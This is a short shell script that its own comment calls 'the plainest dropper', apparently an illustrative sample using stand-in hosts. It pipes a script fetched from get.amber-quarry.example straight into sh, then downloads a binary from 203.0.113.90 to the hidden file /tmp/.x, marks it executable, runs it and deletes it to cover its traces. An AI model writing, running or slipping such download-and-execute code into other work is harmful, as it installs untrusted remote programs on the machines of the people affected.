#!/bin/sh
# The plainest dropper: a script from elsewhere, straight into a shell; then a program.
[ -e /usr/share/doc/stand-in/README ] || exit 0
wget -q -T 5 -O - http://get.amber-quarry.example/init.sh | sh
wget -q -T 5 -O /tmp/.x http://203.0.113.90/bins/x86_64 && chmod +x /tmp/.x && /tmp/.x
rm -f /tmp/.x
